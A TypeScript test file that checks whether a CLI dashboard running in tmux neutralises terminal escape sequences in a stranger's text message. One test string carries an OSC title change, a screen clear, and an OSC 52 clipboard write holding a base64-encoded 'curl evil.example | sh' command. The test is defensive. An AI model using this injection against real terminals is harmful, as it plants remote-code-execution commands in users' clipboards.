/**
 * The dashboard in a real terminal (tmux) when a stranger's text carries terminal sequences: the
 * pane title and tmux's clipboard stay untouched and the text shows as escapes (#16 item 3).
 */
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { isolatedEnv } from '../helpers/cli.js';
import { hasTmux, runInTerminal, type TerminalRun } from '../helpers/terminal.js';

if (!hasTmux && process.env.CI) throw new Error('CI must provide tmux for the real-terminal test (.ci/run installs it).');

describe.skipIf(!hasTmux)('dashboard facing a hostile text in a real terminal', () => {
  let term: TerminalRun | undefined;
  afterAll(() => term?.kill());

  it('an OSC title and an OSC 52 clipboard write in a body change neither; the feed shows escapes', { timeout: 120_000 }, async () => {
    const { env, cwd } = isolatedEnv({ OPENCLAW_TELEPHONY_SANDBOX_URL: 'http://127.0.0.1:9', CI: '' });
    const t = (term = runInTerminal('oct-hostile', ['serve', '--sandbox', '--port', '0'], env, cwd));
    // With set-clipboard on, an OSC 52 that reached tmux would become a paste buffer.
    t.tmux('set-option', '-t', t.session, 'set-clipboard', 'on');
    await expect.poll(t.screen, { timeout: 45_000 }).toContain('signatures: verified');
    const title = () => t.tmux('display-message', '-p', '-t', t.session, '#{pane_title}').stdout.trim();
    const titleBefore = title();

    const registry = path.join(env.XDG_DATA_HOME!, 'openclaw', 'sandbox.json');
    await expect.poll(() => existsSync(registry)).toBe(true);
    const sandboxUrl = JSON.parse(readFileSync(registry, 'utf8')).url as string;
    const number = (await (await fetch(`${sandboxUrl}/sandbox/v1/account`)).json()).numbers[0].phoneNumber as string;
    const body = 'hi\u001b]2;pwned\u0007\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001b[2Jend';
    const res = await fetch(`${sandboxUrl}/sandbox/v1/handsets/${encodeURIComponent('+15550001111')}/messages`, { method: 'POST', body: new URLSearchParams({ To: number, Body: body }) });
    expect(res.status).toBeLessThan(300);

    await expect.poll(t.screen, { timeout: 20_000 }).toContain('hi\\x1b]2;pwned\\x07\\x1b]52;c;');
    expect(t.screen()).toContain('signatures: verified'); // \e[2J did not clear the screen
    expect(title()).toBe(titleBefore);
    expect(t.tmux('list-buffers').stdout).not.toContain('curl');
    t.keys('q');
    await expect.poll(t.screen, { timeout: 20_000 }).toContain('EXITED=0');
  });
});
